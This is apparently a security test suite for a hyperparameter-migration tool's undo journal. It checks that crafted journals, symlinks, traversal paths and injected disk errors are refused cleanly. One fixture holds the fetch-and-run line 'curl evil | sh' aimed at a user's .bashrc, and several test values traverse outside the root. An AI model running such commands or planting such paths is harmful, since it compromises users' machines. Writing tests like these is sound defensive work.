"""The journal under attack (issue 8): a crafted .migrate/, edits while migrate works, aliases,
long names, resource errors. Run against the code before the journal package (base 00362ff),
every test here failed (it wrote outside the root, lost an edit, or ended in a traceback /
exit 1), 33 of 43, except ten kept as guards: the two concurrent `migrate toto` (no mix in
4 rounds there either), the huge-int / not-JSON state files (already "journal damaged",
exit 3), a previous version's journal still reverting (compatibility), and an injected
filesystem error mid-revert (already one line there; mid-apply it left the migration
pending instead of rolling it back).
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from migrator.hints import root_option
from migrator import atomic
from migrator.errors import BadInputError, SafetyError
from migrator.journal import FileChange, Journal

from .helpers import apply_changes, clean_exit, run


def _config(symbol: str, samples: int = 1024, batch: int = 128) -> bytes:
    return (f'{{\r\n  "symbol": "{symbol}",\r\n  "model": "toto",\r\n  "config": {{"name": '
            f'"toto_opt_mean_{samples}_spb{batch}", "num_samples": {samples}, "samples_per_batch": '
            f'{batch}, "aggregate": "mean"}}\r\n}}').encode()


SYMBOLS = ("AAPL", "MSFT", "NVDA")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    for folder in ("toto", "best"):
        (root / "hyperparams" / folder).mkdir(parents=True)
    for symbol in SYMBOLS:
        (root / "hyperparams" / "toto" / f"{symbol}.json").write_bytes(_config(symbol))
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "precious").write_bytes(b"precious")
    return folder


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def _user_files(root: Path) -> dict[str, bytes]:
    return {k: v for k, v in _tree(root).items() if not k.startswith(".migrate/")}


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _craft(root: Path, migration_id: str, files: list[dict[str, Any]], originals: list[bytes],
           record_id: Any = None, state: str = "applied") -> None:
    """A hand-made journal entry in the original format (1: originals/N), read by old and new code."""
    folder = root / ".migrate" / "migrations"
    (folder / f"{migration_id}.originals").mkdir(parents=True, exist_ok=True)
    for index, data in enumerate(originals):
        (folder / f"{migration_id}.originals" / str(index)).write_bytes(data)
    (folder / f"{migration_id}.json").write_text(json.dumps({
        "format": 1, "id": migration_id if record_id is None else record_id, "kind": "toto",
        "created": "2026-01-01T00:00:00+00:00", "argv": ["migrate"], "files": files}))
    (folder / f"{migration_id}.state").write_text(json.dumps({"state": state, "reverted": None}))


# --- 1. writes outside the root -------------------------------------------------------------


@pytest.mark.parametrize("linked", [".migrate", ".migrate/migrations"])
def test_a_journal_folder_that_is_a_symlink_is_refused(root: Path, outside: Path, linked: str) -> None:
    (root / linked).parent.mkdir(parents=True, exist_ok=True)
    (root / linked).symlink_to(outside, target_is_directory=True)
    before = _user_files(root)
    result = run(root, "toto", "--samples", "32", "--batch", "16")
    clean_exit(result, 3, linked, "symlink")
    assert _tree(outside) == {"precious": b"precious"}  # no lock, record or original out there
    assert _user_files(root) == before


def test_a_journal_folder_that_is_a_file_is_refused(root: Path) -> None:
    (root / ".migrate").write_bytes(b"not a folder")
    clean_exit(run(root, "toto", "--samples", "32", "--batch", "16"), 3, ".migrate")
    clean_exit(run(root, "history"), 3, ".migrate")


def test_a_record_whose_id_is_an_absolute_path_writes_nothing_outside(root: Path, outside: Path) -> None:
    target = root / "hyperparams" / "toto" / "AAPL.json"
    evil = str(outside / "evil")
    _craft(root, "0001", [{"path": "hyperparams/toto/AAPL.json", "sha256_before": _sha(b"x"),
                           "sha256_after": _sha(target.read_bytes()), "mode": 0o100644}], [b"x"],
           record_id=evil)
    result = run(root, "revert")
    clean_exit(result, 3, "journal damaged", "0001.json")
    assert _tree(outside) == {"precious": b"precious"}
    assert target.read_bytes() == _config("AAPL")


def test_force_never_saves_through_a_symlinked_overwritten_folder(root: Path, outside: Path) -> None:
    bashrc = root / ".bashrc"
    bashrc.write_bytes(b"the user's own")
    attacker = b"curl evil | sh\n"
    _craft(root, "0001", [{"path": ".bashrc", "sha256_before": _sha(attacker),
                           "sha256_after": _sha(b"something else"), "mode": 0o100644}], [attacker])
    (root / ".migrate" / "overwritten").mkdir()
    (root / ".migrate" / "overwritten" / "0001").symlink_to(outside, target_is_directory=True)
    result = run(root, "revert", "0001", "--force")
    clean_exit(result, 3, "0001")
    assert _tree(outside) == {"precious": b"precious"}
    assert bashrc.read_bytes() == b"the user's own"
    assert json.loads((root / ".migrate/migrations/0001.state").read_text())["state"] == "applied"


@pytest.mark.parametrize("path", ["../../outside/x.json", "/etc/x.json", "hyperparams/../../x.json",
                                  ".migrate/lock", "hyperparams//toto/AAPL.json"])
def test_a_record_path_that_is_not_a_plain_relative_path_is_refused(root: Path, outside: Path,
                                                                    path: str) -> None:
    original = b"attacker's bytes"
    _craft(root, "0001", [{"path": path, "sha256_before": _sha(original),
                           "sha256_after": _sha(b"whatever"), "mode": 0o100644}], [original])
    before = _user_files(root)
    result = run(root, "revert", "--force")
    clean_exit(result, 3, "journal damaged")
    assert _user_files(root) == before and _tree(outside) == {"precious": b"precious"}
    assert not (root.parent.parent / "x.json").exists()


# --- 2. an in-place edit while migrate works -----------------------------------------------


def test_an_in_place_edit_during_the_apply_is_kept_and_the_migration_rolled_back(
        root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before: the original was a hard link to the live inode; the edit was lost, revert failed."""
    paths = sorted((root / "hyperparams" / "toto").glob("*.json"))
    changes = [FileChange(p, p.read_bytes(), p.read_bytes().replace(b"1024", b"32")) for p in paths]
    edited = paths[1]
    real_write_temp = atomic._write_temp

    def write_temp(replacement: Any, tag: str, *, fsync: bool) -> str:
        if os.fspath(replacement.path) == str(edited):
            with open(edited, "r+b") as handle:  # the user's editor writes in place
                handle.write(b"{ my edit ")
        return real_write_temp(replacement, tag, fsync=fsync)

    monkeypatch.setattr(atomic, "_write_temp", write_temp)
    with pytest.raises(SafetyError, match="MSFT.json changed while migrate was writing.*rolled back"):
        apply_changes(root, "toto", ["migrate"], changes)
    monkeypatch.undo()
    assert edited.read_bytes().startswith(b"{ my edit ")
    for path in paths:
        if path != edited:
            assert path.read_bytes() == _config(path.stem)
    assert [m.state for m in Journal(root).history()] == ["reverted"]


# --- 3. the lock covers planning ------------------------------------------------------------

MIGRATE = [sys.executable, "-m", "migrator"]


def test_two_concurrent_migrations_never_leave_the_files_mixed(tmp_path: Path) -> None:
    for round_ in range(4):
        root = tmp_path / f"round{round_}"
        folder = root / "hyperparams" / "toto"
        folder.mkdir(parents=True)
        for index in range(300):
            (folder / f"S{index:04d}.json").write_bytes(_config(f"S{index:04d}"))
        env = {k: v for k, v in os.environ.items() if k != "HYPERPARAM_ROOT"}
        processes = [subprocess.Popen([*MIGRATE, "toto", "--samples", samples, "--batch", "16", "-q",
                                       "--root", str(root)], env=env, stdout=subprocess.DEVNULL,
                                      stderr=subprocess.PIPE, text=True)
                     for samples in ("32", "64")]
        codes = [p.wait(timeout=120) for p in processes]
        errors = [p.stderr.read() for p in processes if p.stderr]  # type: ignore[union-attr]
        assert all(code in (0, 3) for code in codes), errors
        values = {json.loads(p.read_bytes())["config"]["num_samples"] for p in folder.iterdir()}
        assert len(values) == 1, f"round {round_}: files mixed: {values}"


# --- 4. aliases -----------------------------------------------------------------------------


def test_a_file_replaced_by_a_symlink_after_the_migration_is_never_written_through(root: Path) -> None:
    best = root / "hyperparams" / "best" / "AAPL.json"
    best.write_bytes(b'{"model": "toto", "name": "best"}')
    toto = root / "hyperparams" / "toto" / "AAPL.json"
    apply_changes(root, "toto", ["migrate"], [FileChange(best, best.read_bytes(), b'{"model": "toto"}')])
    best.unlink()
    best.symlink_to("../toto/AAPL.json")
    for args in (("revert",), ("revert", "--force")):
        clean_exit(run(root, *args), 3, "hyperparams/best/AAPL.json", "symlink")
    assert toto.read_bytes() == _config("AAPL") and best.is_symlink()


# --- 5. a wedged root -----------------------------------------------------------------------


def test_a_legal_244_byte_name_is_migrated_and_reverted(root: Path) -> None:
    name = "L" * 239 + ".json"
    assert len(name.encode()) == 244
    path = root / "hyperparams" / "toto" / name
    path.write_bytes(_config("LONG"))
    changes = [FileChange(path, path.read_bytes(), path.read_bytes().replace(b"1024", b"32"))]
    assert apply_changes(root, "toto", ["migrate"], changes) is not None
    assert path.read_bytes() == changes[0].after
    Journal(root).revert()
    assert path.read_bytes() == _config("LONG")
    assert atomic.temp_path(path, "migrate-0001-revert").endswith(".tmp")
    assert all(len(p.name.encode()) <= 255 for p in path.parent.iterdir())


# --- 6. clean exits for every filesystem or resource error ----------------------------------


@pytest.mark.parametrize("code", [errno.EACCES, errno.EROFS])
def test_a_root_where_the_journal_cannot_be_created_exits_3_naming_it(
        root: Path, monkeypatch: pytest.MonkeyPatch, code: int) -> None:
    real_mkdir = os.mkdir

    def mkdir(path: Any, *args: Any, **kwargs: Any) -> None:
        if os.fspath(path).endswith(".migrate"):
            raise OSError(code, os.strerror(code), os.fspath(path))
        real_mkdir(path, *args, **kwargs)

    monkeypatch.setattr(os, "mkdir", mkdir)
    before = _user_files(root)
    clean_exit(run(root, "toto", "--samples", "32", "--batch", "16"), 3, ".migrate", os.strerror(code))
    assert _user_files(root) == before


def test_disk_full_while_the_applied_state_is_written_ends_cleanly(
        root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real_write = os.write

    def write(fd: int, data: Any) -> int:
        if bytes(data[:30]).startswith(b'{"state": "applied"') and os.readlink(
                f"/proc/self/fd/{fd}").endswith(".tmp"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", write)
    before = _user_files(root)
    clean_exit(run(root, "toto", "--samples", "32", "--batch", "16"), 3, "No space left")
    monkeypatch.undo()
    assert _user_files(root) == before  # rolled back at once
    assert "did not finish" not in run(root, "history").stderr


@pytest.mark.parametrize("content", [
    b'{"state": "applied", "reverted": ' + b"1" * 5000 + b"}",  # past the int-digits limit
    b"[" * 10_000 + b"]" * 10_000,  # nested 10,000 deep
    b'{"state": "gone"}',
    b"\xff\xfe",
], ids=["huge-int", "deep-nesting", "unknown-state", "not-json"])
def test_a_damaged_state_file_is_one_line_exit_3(root: Path, content: bytes) -> None:
    apply_changes(root, "toto", ["migrate"], [FileChange(
        root / "hyperparams/toto/AAPL.json", _config("AAPL"), _config("AAPL", 32, 16))])
    (root / ".migrate/migrations/0001.state").write_bytes(content)
    for args in (("history",), ("revert",), ("toto", "--samples", "64", "--batch", "16")):
        clean_exit(run(root, *args), 3, "0001.state")
    assert (root / "hyperparams/toto/AAPL.json").read_bytes() == _config("AAPL", 32, 16)


def test_a_stray_state_file_is_one_line_exit_3_naming_it(root: Path) -> None:
    (root / ".migrate" / "migrations").mkdir(parents=True)
    (root / ".migrate" / "migrations" / "abc.state").write_bytes(b"{}")
    for args in (("history",), ("revert",), ("toto", "--samples", "32", "--batch", "16")):
        clean_exit(run(root, *args), 3, "abc.state")
    assert (root / ".migrate" / "migrations" / "abc.state").exists()  # not ours to delete


@pytest.mark.parametrize("kind", ["folder", "symlink"])
def test_a_lock_that_is_a_folder_or_a_symlink_exits_3(root: Path, outside: Path, kind: str) -> None:
    (root / ".migrate").mkdir()
    lock = root / ".migrate" / "lock"
    if kind == "folder":
        lock.mkdir()
    else:
        lock.symlink_to(outside / "precious")
    clean_exit(run(root, "toto", "--samples", "32", "--batch", "16"), 3, ".migrate/lock")
    assert (outside / "precious").read_bytes() == b"precious"


def test_a_symlink_loop_in_a_change_is_bad_input(root: Path) -> None:
    loop = root / "hyperparams" / "toto" / "loop.json"
    loop.symlink_to(loop)
    with pytest.raises(BadInputError, match="loop.json"):
        apply_changes(root, "toto", ["migrate"], [FileChange(loop, b"x", b"y")])


def test_ctrl_c_exits_130_with_one_line(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(self: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Journal, "history", interrupted)
    result = run(root, "history")
    assert result.exit_code == 130 and result.stderr == "migrate: interrupted\n"


# --- 8. revert out of order, undo stack, pruning --------------------------------------------


def _two_migrations(root: Path, count: int = 40) -> list[Path]:
    folder = root / "hyperparams" / "toto"
    paths = [folder / f"S{i:03d}.json" for i in range(count)]
    for path in paths:
        path.write_bytes(_config(path.stem))
    for old, new in ((1024, 32), (32, 64)):
        apply_changes(root, "toto", ["migrate"], [
            FileChange(p, p.read_bytes(), p.read_bytes().replace(b": %d" % old, b": %d" % new)) for p in paths])
    return paths


def test_reverting_an_older_migration_under_a_newer_one_is_refused_briefly(root: Path) -> None:
    paths = _two_migrations(root)
    after_second = {p: p.read_bytes() for p in paths}
    for args in (("revert", "0001"), ("revert", "0001", "--force")):
        result = run(root, *args)
        clean_exit(result, 3, "0002", f"`migrate revert --all{root_option(root)}`")
        assert len(result.stderr) < 400 + len(root_option(root)) and "and 37 more" in result.stderr  # a few names, then a count
    assert {p: p.read_bytes() for p in paths} == after_second
    assert [m.state for m in Journal(root).history()] == ["applied", "applied"]


def test_revert_all_and_to(root: Path) -> None:
    paths = _two_migrations(root)
    pristine = {p: _config(p.stem) for p in paths}
    assert run(root, "revert", "--to", "0001").exit_code == 0
    assert [m.state for m in Journal(root).history()] == ["applied", "reverted"]
    assert run(root, "revert", "--all").exit_code == 0
    assert {p: p.read_bytes() for p in paths} == pristine
    assert run(root, "revert", "--all").stdout.startswith("nothing to revert")


def test_prune_drops_what_reverted_migrations_keep_and_reports_the_bytes(root: Path) -> None:
    _two_migrations(root)
    assert run(root, "revert").exit_code == 0  # 0002 reverted; 0001 stays applied
    migrations = root / ".migrate/migrations"
    pack = migrations / "0002.pack"
    kept = [p for p in migrations.glob("*replaced/*") if p.stat().st_nlink == 1]  # inodes only we hold
    size = pack.stat().st_size + sum(p.stat().st_size for p in kept)
    result = run(root, "history", "--prune")
    assert result.exit_code == 0 and f"{size:,} bytes freed" in result.stdout
    assert "originals of 1 reverted migration (0002)" in result.stdout
    assert not pack.exists() and (migrations / "0001.pack").exists()
    assert not list(migrations.glob("*replaced"))
    assert "reverted (pruned)" in run(root, "history").stdout
    assert run(root, "revert").exit_code == 0  # the applied one still reverts exactly


def test_a_migration_recorded_by_the_previous_version_still_reverts(root: Path) -> None:
    """Format 1 (originals/N): a journal left by the code before the pack keeps working."""
    target = root / "hyperparams" / "toto" / "AAPL.json"
    after = _config("AAPL", 32, 16)
    target.write_bytes(after)
    _craft(root, "0001", [{"path": "hyperparams/toto/AAPL.json", "sha256_before": _sha(_config("AAPL")),
                           "sha256_after": _sha(after), "mode": 0o100644}], [_config("AAPL")])
    result = run(root, "revert")
    assert result.exit_code == 0, result.stderr
    assert target.read_bytes() == _config("AAPL")


def test_a_symlinked_originals_folder_of_a_previous_version_is_refused(root: Path, outside: Path) -> None:
    target = root / "hyperparams" / "toto" / "AAPL.json"
    after = _config("AAPL", 32, 16)
    target.write_bytes(after)
    (outside / "0").write_bytes(_config("AAPL"))  # what a link out of the root would serve
    _craft(root, "0001", [{"path": "hyperparams/toto/AAPL.json", "sha256_before": _sha(_config("AAPL")),
                           "sha256_after": _sha(after), "mode": 0o100644}], [])
    originals = root / ".migrate/migrations/0001.originals"
    originals.rmdir()
    originals.symlink_to(outside, target_is_directory=True)
    clean_exit(run(root, "revert"), 3, "0001.originals", "symlink")
    assert target.read_bytes() == after


@pytest.mark.parametrize("code", [errno.EACCES, errno.EROFS, errno.ENOSPC, errno.EISDIR,
                                  errno.ENAMETOOLONG, errno.ELOOP])
@pytest.mark.parametrize("command", ["apply", "revert"])
def test_a_filesystem_error_mid_way_ends_in_one_line_and_loses_nothing(
        root: Path, monkeypatch: pytest.MonkeyPatch, code: int, command: str) -> None:
    paths = sorted((root / "hyperparams" / "toto").glob("*.json"))
    if command == "revert":
        apply_changes(root, "toto", ["migrate"], [
            FileChange(p, p.read_bytes(), _config(p.stem, 32, 16)) for p in paths])
    before = {p: p.read_bytes() for p in paths}
    real_replace = os.replace
    calls = []

    def replace(src: Any, dst: Any, *args: Any, **kwargs: Any) -> None:
        if "/hyperparams/" in os.fspath(dst):  # the second user file fails
            calls.append(dst)
            if len(calls) == 2:
                raise OSError(code, os.strerror(code), os.fspath(dst))
        real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", replace)
    args = ("revert",) if command == "revert" else ("toto", "--samples", "32", "--batch", "16")
    result = run(root, *args)
    monkeypatch.undo()
    clean_exit(result, 3, os.strerror(code))
    if command == "apply":  # rolled back at once
        assert {p: p.read_bytes() for p in paths} == before
        assert [m.state for m in Journal(root).history()] == ["reverted"]
    else:  # every file whole; the next revert completes it
        assert all(p.read_bytes() in (before[p], _config(p.stem)) for p in paths)
        assert f"`migrate revert{root_option(root)}`" in result.stderr
        assert run(root, "revert").exit_code == 0
        assert all(p.read_bytes() == _config(p.stem) for p in paths)
